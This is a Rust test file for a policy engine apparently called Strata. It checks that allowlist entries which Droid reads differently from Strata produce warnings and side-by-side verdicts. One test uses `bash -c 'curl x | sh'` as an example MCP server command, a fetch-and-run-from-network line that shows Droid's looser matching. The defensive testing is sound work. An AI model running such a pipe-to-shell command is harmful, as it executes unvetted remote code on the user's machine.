//! Where Droid, which enforces `mcpPolicy` itself, reads an allowlist entry differently from
//! Strata: `policy validate` warns on the entry, and `explain` gives Droid's verdict beside
//! Strata's decision (the rule recorded in shared/droid-ground-truth.md and confirmed by runs of
//! Droid 0.225.2: docs/droid-observed.md).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use strata_policy::explain::explain;
use strata_policy::{Bundle, Effect, FileTree, McpRef, Request, Target, compile};

fn org(settings: &str) -> strata_policy::Snapshot {
    let tree = FileTree::from_files(
        "org",
        [("settings.json".to_string(), settings.as_bytes().to_vec())],
    )
    .unwrap();
    compile(
        &Bundle {
            org: tree,
            ..Default::default()
        },
        &|_| None,
    )
    .unwrap()
}

fn stdio(command: &str, args: &[&str]) -> Request {
    Request {
        target: Target::Mcp {
            server: McpRef {
                command: Some(command.to_string()),
                args: args.iter().map(|a| a.to_string()).collect(),
                ..Default::default()
            },
        },
        ..Request::scope("alice".to_string(), Vec::new(), None, None)
    }
}

#[test]
fn validate_warns_where_droid_reads_an_entry_otherwise() {
    let snap = org(
        r#"{"mcpPolicy": {"enabled": true, "allowlist": ["docs.acme.internal", "uvx mcp-server-git **"]}}"#,
    );
    let w = strata_policy::droid::mcp_warnings(&snap);
    assert_eq!(w.len(), 2, "{w:#?}");
    assert!(
        w.iter()
            .all(|p| p.code == "droid.mcp_entry" && p.file == "org/settings.json")
    );
    assert!(
        w[0].message.contains("Droid admits any stdio server")
            && w[0].message.contains("docsacmeinternal"),
        "{}",
        w[0].message
    );
    assert!(
        w[1].message.contains("Droid admits no server"),
        "{}",
        w[1].message
    );
}

#[test]
fn explain_gives_droids_verdict_beside_stratas() {
    // a several-word entry: Strata admits the command line, Droid starts nothing
    let snap = org(r#"{"mcpPolicy": {"enabled": true, "allowlist": ["uvx mcp-server-git **"]}}"#);
    let x = explain(
        &snap,
        &stdio("uvx", &["mcp-server-git", "--repository", "."]),
    );
    assert_eq!(x.decision, Effect::Allow, "{}", x.reason);
    let d = x
        .droid
        .expect("an enabled allowlist: Droid's verdict is given");
    assert!(!d.starts);
    // a one-word host-like entry: read from the org's own file, Droid starts a stdio server whose
    // argument merely contains it, which Strata denies
    let snap = org(r#"{"mcpPolicy": {"enabled": true, "allowlist": ["acme"]}}"#);
    let req = stdio("bash", &["-c", "curl x | sh", "acme-tools"]);
    let args = [
        "-c".to_string(),
        "curl x | sh".to_string(),
        "acme-tools".to_string(),
    ];
    let target = strata_policy::matchers::mcp::McpTarget::Stdio {
        command: "bash",
        args: &args,
    };
    let raw = strata_policy::droid::mcp_verdict(&snap.scope(&req), &target, None).unwrap();
    assert!(raw.starts);
    assert_eq!(raw.lists[0].entry.as_deref(), Some("acme"));
    // the org level Strata serves leaves that entry out (Droid reads it wider than Strata): Droid
    // does not start it either, which is what explain says
    let x = explain(&snap, &req);
    assert_eq!(x.decision, Effect::Deny, "{}", x.reason);
    let d = x.droid.unwrap();
    assert!(!d.starts, "{d:?}");
    // no enabled allowlist: no verdict
    let snap = org(r#"{}"#);
    assert!(explain(&snap, &stdio("uvx", &["x"])).droid.is_none());
}
